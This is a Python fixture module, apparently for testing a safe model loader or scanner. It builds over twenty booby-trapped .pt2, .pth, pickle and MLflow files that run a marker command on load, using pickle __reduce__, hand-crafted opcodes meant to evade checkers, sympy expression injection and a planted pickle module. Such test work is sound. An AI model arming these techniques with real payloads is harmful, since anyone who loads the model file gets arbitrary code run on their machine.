"""Hostile model files: each runs a marker when the stock loader reads it. Harmless: the marker only creates a file."""

from __future__ import annotations

import io
import json
import os
import pickle
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import torch
from torch import nn

Rewrite = Callable[[str, bytes], bytes | None]


class Bomb:
    """Creates the marker file when it is unpickled."""

    def __init__(self, marker: str, how: str = "system") -> None:
        self.marker, self.how = marker, how

    def __reduce__(self) -> Any:
        if self.how == "system":
            return os.system, (f"touch {self.marker}",)
        if self.how == "eval":
            return eval, (f"open({self.marker!r}, 'w')",)
        return exec, (f"open({self.marker!r}, 'w')",)


class Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(4, 3)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(self.fc(x.reshape(x.shape[0] * 2, 2).reshape(-1, 4)))


@cache
def _clean_bytes() -> bytes:
    torch.manual_seed(0)
    batch = torch.export.Dim("batch", min=1, max=64)
    buffer = io.BytesIO()
    torch.export.save(torch.export.export(Net().eval(), (torch.zeros(2, 4),), dynamic_shapes=({0: batch},)), buffer)
    return buffer.getvalue()


def clean_pt2(path: Path) -> Path:
    """A small proper archive: one linear layer and batch arithmetic."""
    path.write_bytes(_clean_bytes())
    return path


def rewritten(source: Path, path: Path, change: Rewrite, extra: dict[str, bytes] | None = None) -> Path:
    """Copy an archive; ``change`` gives each member's new content, or None to drop it."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        root = old.namelist()[0].partition("/")[0]
        for info in old.infolist():
            content = change(info.filename.partition("/")[2], old.read(info))
            if content is not None:
                new.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            new.writestr(f"{root}/{name}", content)
    return path


def edited_graph(source: Path, path: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    def change(name: str, content: bytes) -> bytes:
        if name != "models/model.json":
            return content
        program = json.loads(content)
        edit(program)
        return json.dumps(program).encode()

    return rewritten(source, path, change)


def _torch_bytes(value: Any) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


# --- .pt2 -----------------------------------------------------------------------------------------------------------


def pt2_sample_input(folder: Path, marker: str) -> Path:
    bomb = _torch_bytes(((torch.zeros(2, 4), Bomb(marker)), {}))
    path = folder / "sample_input.pt2"
    return rewritten(clean_pt2(folder / "c.pt2"), path, lambda n, c: bomb if n == "data/sample_inputs/model.pt" else c)


def _pickled_entry(folder: Path, marker: str, kind: str, name: str, how: str = "system") -> Path:
    config = f"data/{kind}/model_{kind}_config.json"
    record = "weight_0" if kind == "weights" else "tensor_0"
    entry = {"path_name": record, "is_param": kind == "weights", "use_pickle": True, "tensor_meta": None}
    bomb = _torch_bytes(Bomb(marker, how))
    clean = clean_pt2(folder / "c.pt2")

    def change(member: str, content: bytes) -> bytes:
        if member != config:
            return bomb if member == f"data/{kind}/{record}" else content
        table = json.loads(content)
        table["config"][name] = entry
        return json.dumps(table).encode()

    has = f"data/{kind}/{record}" in [n.partition("/")[2] for n in zipfile.ZipFile(clean).namelist()]
    extra = {} if has else {f"data/{kind}/{record}": bomb}
    return rewritten(clean, folder / f"pickled_{kind}.pt2", change, extra)


def pt2_pickled_weight(folder: Path, marker: str) -> Path:
    return _pickled_entry(folder, marker, "weights", "fc.weight")


def pt2_pickled_constant(folder: Path, marker: str) -> Path:
    return _pickled_entry(folder, marker, "constants", "lifted_tensor_0", "exec")


def pt2_custom_object(folder: Path, marker: str) -> Path:
    """A constant that is no tensor: stock unpickles ``opaque_obj_0``."""
    clean = clean_pt2(folder / "c.pt2")
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}

    def change(member: str, content: bytes) -> bytes:
        if member != "data/constants/model_constants_config.json":
            return content
        return json.dumps({"config": {"thing": entry}}).encode()

    extra = {"data/constants/opaque_obj_0": pickle.dumps(Bomb(marker))}
    return rewritten(clean, folder / "custom_object.pt2", change, extra)


def _code(marker: str) -> str:
    return f"__import__('os').system('touch {marker}')"


def _each_expression(value: Any, text: str) -> None:
    if isinstance(value, dict):
        if "expr_str" in value:
            value["expr_str"] = text
        for item in value.values():
            _each_expression(item, text)
    elif isinstance(value, list):
        for item in value:
            _each_expression(item, text)


def pt2_symbolic_size(folder: Path, marker: str) -> Path:
    """An expression of a tensor size, which sympy evaluates."""
    return edited_graph(
        clean_pt2(folder / "c.pt2"), folder / "symbolic.pt2", lambda p: _each_expression(p, _code(marker))
    )


def pt2_symbolic_value(folder: Path, marker: str) -> Path:
    """The same in ``sym_int_values``."""

    def edit(program: dict[str, Any]) -> None:
        _each_expression(program["graph_module"]["graph"]["sym_int_values"], _code(marker))

    return edited_graph(clean_pt2(folder / "c.pt2"), folder / "symbolic_value.pt2", edit)


def pt2_guard_code(folder: Path, marker: str) -> Path:
    def edit(program: dict[str, Any]) -> None:
        program["guards_code"] = [_code(marker) + " or True"]

    return edited_graph(clean_pt2(folder / "c.pt2"), folder / "guards.pt2", edit)


def pt2_legacy_weights(folder: Path, marker: str) -> Path:
    """The weight record of older writers: one pickled state dict."""
    clean = clean_pt2(folder / "c.pt2")
    bomb = _torch_bytes({"fc.weight": Bomb(marker), "fc.bias": torch.zeros(3)})
    drop = "data/weights/model_weights_config.json"
    return rewritten(
        clean, folder / "legacy.pt2", lambda n, c: None if n == drop else c, {"data/weights/model.pt": bomb}
    )


def pt2_before_2_10(folder: Path, marker: str) -> Path:
    """The archive of torch 2.5 to 2.7: pickled weights next to the graph."""
    path = folder / "old_archive.pt2"
    with zipfile.ZipFile(path, "w") as out:
        clean = zipfile.ZipFile(clean_pt2(folder / "c.pt2"))
        graph = next(n for n in clean.namelist() if n.endswith("models/model.json"))
        out.writestr("version", "8.20")
        out.writestr("serialized_exported_program.json", clean.read(graph))
        out.writestr("serialized_state_dict.pt", _torch_bytes({"fc.weight": Bomb(marker)}))
        out.writestr("serialized_constants.pt", _torch_bytes({}))
        out.writestr("serialized_example_inputs.pt", _torch_bytes(((torch.zeros(2, 4),), {})))
    return path


# --- torch.save and pickle --------------------------------------------------------------------------------------------


def pth_state_dict(folder: Path, marker: str) -> Path:
    torch.save({"fc.weight": torch.zeros(3, 4), "fc.bias": torch.zeros(3), "note": Bomb(marker)}, folder / "s.pth")
    return folder / "s.pth"


def pth_eval(folder: Path, marker: str) -> Path:
    torch.save(
        {"fc.weight": torch.zeros(3, 4), "fc.bias": torch.zeros(3), "note": Bomb(marker, "eval")}, folder / "e.pth"
    )
    return folder / "e.pth"


class Trapped(Net):
    """A module whose own unpickling runs code."""

    def __init__(self, marker: str) -> None:
        super().__init__()
        self.bomb = Bomb(marker)


def pth_module(folder: Path, marker: str) -> Path:
    torch.save(Trapped(marker), folder / "m.pth")
    return folder / "m.pth"


def pth_legacy(folder: Path, marker: str) -> Path:
    torch.save(Trapped(marker), folder / "legacy.pth", _use_new_zipfile_serialization=False)
    return folder / "legacy.pth"


def pth_legacy_header(folder: Path, marker: str) -> Path:
    """The bomb sits in the header of the old format, before the model."""
    buffer = io.BytesIO()
    torch.save({"fc.weight": torch.zeros(3, 4)}, buffer, _use_new_zipfile_serialization=False)
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    (folder / "header.pth").write_bytes(
        magic + pickle.dumps(Bomb(marker), protocol=2) + buffer.getvalue()[len(magic) :]
    )
    return folder / "header.pth"


def pth_bare_pickle(folder: Path, marker: str) -> Path:
    with (folder / "bare.pkl").open("wb") as stream:
        pickle.dump(Trapped(marker), stream)
    return folder / "bare.pkl"


def pth_nested_storage(folder: Path, marker: str) -> Path:
    """``torch.storage._load_from_bytes`` unpickles bytes inside the pickle."""
    inner = pickle.dumps(Bomb(marker))

    class Nested:
        def __reduce__(self) -> Any:
            return torch.storage._load_from_bytes, (inner,)

    torch.save({"fc.weight": torch.zeros(3, 4), "x": Nested()}, folder / "nested.pth")
    return folder / "nested.pth"


def pth_setstate(folder: Path, marker: str) -> Path:
    """No call in sight: an attribute update of an imported object (protocol 0 text opcodes)."""
    text = f"cposix\nsystem\n(S'touch {marker}'\ntR.".encode()
    (folder / "text.pkl").write_bytes(b"\x80\x02" + text)
    return folder / "text.pkl"


def pth_instance(folder: Path, marker: str) -> Path:
    """The ``INST`` opcode, which many checkers forget."""
    (folder / "inst.pkl").write_bytes(b"\x80\x02" + f"(S'touch {marker}'\nios\nsystem\n.".encode())
    return folder / "inst.pkl"


def pth_dotted_name(folder: Path, marker: str) -> Path:
    """An allowed-looking module with ``os.system`` reached through its attributes (``STACK_GLOBAL``)."""
    command = f"touch {marker}".encode()
    body = b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93"
    (folder / "dotted.pkl").write_bytes(body + b"\x8c" + bytes([len(command)]) + command + b"\x85R.")
    return folder / "dotted.pkl"


def pth_tar(folder: Path, marker: str) -> Path:
    """The tar container of torch 0.1."""
    parts = {
        "sys_info": pickle.dumps({}, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": pickle.dumps(Bomb(marker), protocol=2),
    }
    with tarfile.open(folder / "old.tar.pth", "w") as tar:
        for name, content in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return folder / "old.tar.pth"


# --- MLflow directories -----------------------------------------------------------------------------------------------


def _mlflow(folder: Path, name: str, lines: str) -> Path:
    directory = folder / name
    (directory / "data").mkdir(parents=True)
    (directory / "MLmodel").write_text(
        "flavors:\n  pytorch:\n    model_data: data\n    pytorch_version: 2.13.0\n" + lines
    )
    return directory


def mlflow_pickle(folder: Path, marker: str) -> Path:
    directory = _mlflow(folder, "mlflow_pickle", "")
    torch.save(Trapped(marker), directory / "data" / "model.pth")
    (directory / "data" / "pickle_module_info.txt").write_text("mlflow.pytorch.pickle_module")
    return directory


def mlflow_pickle_module(folder: Path, marker: str) -> Path:
    """The file that names the unpickler is imported; here it names a module that the directory brings."""
    directory = _mlflow(folder, "mlflow_module", "    code: code\n")
    torch.save({"fc.weight": torch.zeros(3, 4), "fc.bias": torch.zeros(3)}, directory / "data" / "model.pth")
    (directory / "data" / "pickle_module_info.txt").write_text("evil_loader")
    (directory / "code").mkdir()
    (directory / "code" / "evil_loader.py").write_text(f"open({marker!r}, 'w')\nfrom pickle import *\n")
    return directory


def mlflow_pt2_guards(folder: Path, marker: str) -> Path:
    """No pickle anywhere, so it passes ``MLFLOW_ALLOW_PICKLE_DESERIALIZATION=false``."""
    directory = _mlflow(folder, "mlflow_pt2", "")
    (folder / "inner").mkdir()
    pt2_symbolic_size(folder / "inner", marker).rename(directory / "data" / "model.pt2")
    return directory


@dataclass(frozen=True)
class Hostile:
    """One attack: the file, and the Python line that a user of the stock loader would write."""

    make: Callable[[Path, str], Path]
    stock: str


_EXPORT = "torch.export.load({path!r})"
_EXPORT_CALL = "torch.export.load({path!r}).module()(torch.zeros(2, 4))"
_TORCH = "torch.load({path!r}, weights_only=False)"
_PICKLE = "pickle.load(open({path!r}, 'rb'))"
_MLFLOW = "__import__('mlflow').pytorch.load_model({path!r})"

HOSTILE: dict[str, Hostile] = {
    "pt2 sample input": Hostile(pt2_sample_input, _EXPORT),
    "pt2 pickled weight": Hostile(pt2_pickled_weight, _EXPORT),
    "pt2 pickled constant": Hostile(pt2_pickled_constant, _EXPORT),
    "pt2 custom object": Hostile(pt2_custom_object, _EXPORT),
    "pt2 symbolic size": Hostile(pt2_symbolic_size, _EXPORT),
    "pt2 symbolic value": Hostile(pt2_symbolic_value, _EXPORT),
    "pt2 guard code": Hostile(pt2_guard_code, _EXPORT_CALL),
    "pt2 legacy weights": Hostile(pt2_legacy_weights, _EXPORT),
    "pt2 of torch 2.5": Hostile(pt2_before_2_10, _EXPORT),
    "pth state dict": Hostile(pth_state_dict, _TORCH),
    "pth eval": Hostile(pth_eval, _TORCH),
    "pth module": Hostile(pth_module, _TORCH),
    "pth legacy": Hostile(pth_legacy, _TORCH),
    "pth legacy header": Hostile(pth_legacy_header, _TORCH),
    "pth nested storage": Hostile(pth_nested_storage, _TORCH),
    "pth tar": Hostile(pth_tar, _TORCH),
    "pickle bare": Hostile(pth_bare_pickle, _PICKLE),
    "pickle text opcodes": Hostile(pth_setstate, _PICKLE),
    "pickle INST": Hostile(pth_instance, _PICKLE),
    "pickle dotted name": Hostile(pth_dotted_name, _PICKLE),
    "mlflow pickle": Hostile(mlflow_pickle, _MLFLOW),
    "mlflow pickle module": Hostile(mlflow_pickle_module, _MLFLOW),
    "mlflow pt2 expression": Hostile(mlflow_pt2_guards, _MLFLOW),
}
